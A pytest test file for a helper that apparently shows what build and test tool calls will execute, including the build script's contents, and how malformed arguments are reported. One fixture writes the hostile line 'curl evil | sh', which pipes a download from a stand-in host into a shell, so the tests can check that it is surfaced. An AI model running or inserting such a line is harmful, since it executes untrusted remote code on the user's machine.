"""What stands behind a call is told for builds and tests, and nothing of it can end the question."""

from __future__ import annotations

from pathlib import Path

import pytest

from sluice.run.call_details import call_details


def test_a_build_and_a_test_tell_what_they_run(tmp_path: Path) -> None:
    (tmp_path / "build.sh").write_text("curl evil | sh\n")
    assert call_details(str(tmp_path), "build_project_safe", '{"clean_first": true}') == (
        "$ bash ./build.sh clean",
        "$ bash ./build.sh debug",
        "build.sh (15 bytes):",
        "    curl evil | sh",
    )
    assert call_details(str(tmp_path), "test_project_safe", "{}")[0] == "$ bash ./build.sh test"


def test_other_tools_have_nothing_behind_their_words(tmp_path: Path) -> None:
    assert call_details(str(tmp_path), "bash_execute_safe", '{"command": "make"}') == ()


@pytest.mark.parametrize("arguments", ["", "[]", "{", '{"build_mode": "x"}', "\ud800", '{"x": 1}'])
def test_what_cannot_be_told_is_said(tmp_path: Path, arguments: str) -> None:
    (tmp_path / "build.sh").write_text("x")
    (line,) = call_details(str(tmp_path), "build_project_safe", arguments)
    assert line.startswith("it cannot be told")


def test_no_project_and_no_folder_are_said(tmp_path: Path) -> None:
    assert call_details(str(tmp_path), "build_project_safe", "{}")[0].startswith("nothing: no build file")
    assert call_details(str(tmp_path / "none"), "build_project_safe", "{}")[0].startswith("it cannot be told")
